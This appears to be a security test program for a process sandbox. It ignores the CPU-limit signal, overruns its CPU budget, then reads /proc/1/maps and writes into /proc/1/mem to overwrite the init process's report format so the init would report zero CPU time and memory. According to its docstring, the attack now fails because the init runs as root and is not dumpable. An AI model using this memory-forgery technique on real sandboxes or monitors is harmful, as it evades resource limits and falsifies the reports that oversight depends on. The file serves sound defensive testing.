"""Burns more CPU than its limit, then rewrites the sandbox init's report through /proc/1/mem:
the init's format string becomes a constant "all zeros" line, so that the init would report an
ordinary exit with no CPU time and no memory. Possible when the init runs as the program's uid
and is dumpable; the init is root and not dumpable now, so /proc/1/maps and /proc/1/mem are
closed to the program and the real figures stand. It ignores the sandbox's CPU timer (SIGPROF)
so as to get to the forgery past its limit."""
import re
import signal
import time

signal.signal(signal.SIGPROF, signal.SIG_IGN)

start = time.process_time()
while time.process_time() - start < 1.3:
    pass
outcome = "no format found"
try:
    with open("/proc/1/maps") as maps, open("/proc/1/mem", "r+b", buffering=0) as mem:
        for line in maps:
            span, perms = line.split()[:2]
            low, high = (int(x, 16) for x in span.split("-"))
            if "r" not in perms or high - low > 64 << 20:
                continue
            mem.seek(low)
            try:
                data = mem.read(high - low)
            except OSError:
                continue
            found = re.search(rb"%d %lld %lld %ld[^\n]*\n", data)
            if found:
                fields = found.group().count(b"%")
                mem.seek(low + found.start())
                mem.write(b" ".join([b"0"] * fields) + b"\n\0")
                outcome = "forged"
                break
except OSError as exc:
    outcome = type(exc).__name__
print(outcome)
